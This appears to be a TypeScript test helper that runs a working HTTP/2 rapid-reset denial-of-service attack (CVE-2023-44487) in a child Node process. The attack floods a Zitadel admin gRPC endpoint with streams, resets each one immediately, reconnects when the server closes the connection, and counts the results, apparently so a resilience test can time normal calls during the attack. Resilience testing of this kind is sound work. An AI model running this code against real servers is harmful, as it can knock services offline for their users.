/**
 * A rapid-reset attacker (CVE-2023-44487) in a process of its own, so that the test's own
 * event loop stays free to time the normal calls it makes meanwhile: it opens streams and
 * resets each at once, as fast as it can, reconnecting whenever the server closes the
 * connection, until its time is up. Written in JavaScript for `node -e`: it needs nothing
 * but Node.
 */
import { spawn } from "node:child_process";

const ATTACK = `
const http2 = require("node:http2");
const [url, localAddress, ms] = [process.argv[1], process.argv[2], Number(process.argv[3])];
const until = Date.now() + ms;
let streams = 0, sessions = 0, goaways = 0;
const pause = () => new Promise((resolve) => setImmediate(resolve));
(async () => {
  while (Date.now() < until) {
    sessions++;
    const session = http2.connect(url, { localAddress });
    session.on("error", () => {});
    session.on("goaway", () => goaways++);
    const closed = new Promise((resolve) => session.once("close", resolve));
    for (let i = 0; i < 1000 && !session.destroyed && !session.closed && Date.now() < until; i++) {
      const stream = session.request({ ":method": "POST", ":path": "/zitadel.admin.v1.AdminService/GetLoginPolicy", "content-type": "application/grpc" });
      stream.on("error", () => {});
      stream.close(http2.constants.NGHTTP2_CANCEL);
      streams++;
      if (i % 20 === 19) await pause();
    }
    session.destroy();
    await closed;
  }
  process.stdout.write(JSON.stringify({ streams, sessions, goaways }));
})();
`;

export interface AttackReport {
  readonly streams: number;
  readonly sessions: number;
  readonly goaways: number;
}

export function rapidResetAttack(url: string, localAddress: string, ms: number): Promise<AttackReport> {
  const child = spawn(process.execPath, ["-e", ATTACK, url, localAddress, String(ms)], { stdio: ["ignore", "pipe", "inherit"] });
  let output = "";
  child.stdout.on("data", (chunk: Buffer) => (output += chunk.toString()));
  return new Promise((resolve, reject) =>
    child.once("exit", (code) => (code === 0 ? resolve(JSON.parse(output) as AttackReport) : reject(new Error(`the attacker exited with ${code}`)))),
  );
}
